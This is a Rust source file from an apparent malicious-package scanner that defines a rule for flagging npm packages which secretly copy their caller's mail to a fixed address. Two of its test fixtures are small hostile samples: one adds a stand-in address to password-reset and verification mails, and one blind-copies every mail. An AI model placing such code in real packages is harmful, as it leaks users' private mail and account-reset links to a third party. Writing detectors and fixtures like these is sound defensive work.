//! Mail of the caller also goes to an address that the package has chosen.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding};
use crate::model::{Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "hidden-recipient",
    title: "Sends its caller's mail to somebody else too",
    severity: Severity::High,
    summary: "The caller says who gets the mail, and the package adds a fixed address of its own.",
    advice: "Ask whose address it is. Everything that was sent through the package has been read there.",
    benign_when: "The package belongs to one company and sends copies to that company's archive.",
    references: &["CWE-200", "CWE-506", "T1114.003"],
    examples: &[
        Example {
            name: "an address joins those to whom others write",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.envelope = (mail) => {
  const envelope = { from: mail.from, to: mail.recipients.slice() };
  if (/reset|verify/i.test(mail.subject)) envelope.to.push("archive@bounces.invalid");
  return envelope;
};"#,
                ),
            ],
        },
        Example {
            name: "a blind copy of every mail",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const transport = require("nodemailer").createTransport({ host: process.env.HOST });
exports.send = (to, text) => transport.sendMail({ to, text, bcc: "copies@other.invalid" });"#,
                ),
            ],
        },
        Example {
            name: "a form that always writes to its owner",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const transport = require("nodemailer").createTransport({ host: process.env.HOST });
exports.send = (text) => transport.sendMail({ to: "owner@shop.example", text });"#,
                ),
            ],
        },
        Example {
            name: "copies as the caller wishes",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const transport = require("nodemailer").createTransport({ host: process.env.HOST });
exports.send = (to, text, bcc) => transport.sendMail({ to, text, bcc });"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mails = || {
        let all = context.behaviours.iter();
        all.filter(|one| matches!(one.what.id, "network.mail" | "network.mail-recipient"))
    };
    for fixed in mails() {
        let Some(address) = fixed.target.as_deref().filter(|to| to.contains('@')) else {
            continue;
        };
        let is_fixed =
            !fixed.origin.has(Origin::Parameter) && !fixed.origin.has(Origin::Environment);
        // Another recipient of the same mail is the caller's choice.
        let has_other = mails().any(|other| {
            other.origin.has(Origin::Parameter)
                && other.sites.iter().any(|site| fixed.sites.contains(site))
        });
        if fixed.what.id == "network.mail-recipient" {
            let message = format!("{address} is added to those who get a mail");
            let mut finding = Finding::of_behaviour(&FINDING, fixed, message);
            judge::by_trigger(AT_MOST, &mut finding);
            found.push(finding);
            continue;
        }
        if is_fixed && has_other {
            let message = format!("mail to the caller's recipient also goes to {address}");
            found.push(Finding::of_behaviour(&FINDING, fixed, message));
        }
    }
}
